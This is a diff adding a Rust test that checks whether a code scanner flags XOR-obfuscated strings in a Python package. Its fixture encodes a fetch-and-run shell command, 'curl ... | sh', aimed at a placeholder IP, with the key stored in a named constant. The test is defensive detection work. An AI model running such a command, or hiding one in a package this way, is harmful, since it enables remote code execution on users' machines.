@@ -168,3 +168,14 @@ fn a_decoder_call_as_a_module_name_is_an_error() {
         (Some(13), Some("error"))
     );
 }
+
+#[test]
+fn a_key_held_in_a_name_is_followed() {
+    // `curl -s http://198.51.100.23/x | sh` XOR 42, the key in a named constant.
+    let py = "import subprocess\n_k = 42\n_d = [73, 95, 88, 70, 10, 7, 89, 10, 66, 94, 94, 90, 16, 5, 5, 27, 19, 18, 4, 31, 27, 4, 27, 26, 26, 4, 24, 25, 5, 82, 10, 86, 10, 89, 66]\ncmd = ''.join(chr(c ^ _k) for c in _d)\n";
+    let json = reviewed(&[("pkg/__init__.py", py)], "json").json();
+    let f = finding(&json, "attack.obfuscation.xor-string");
+    assert_eq!(f["line"], 3);
+    assert!(f["message"].as_str().unwrap().contains("curl -s"), "{f:#}");
+    assert_eq!(f["parts"][0]["line"], 4);
+}
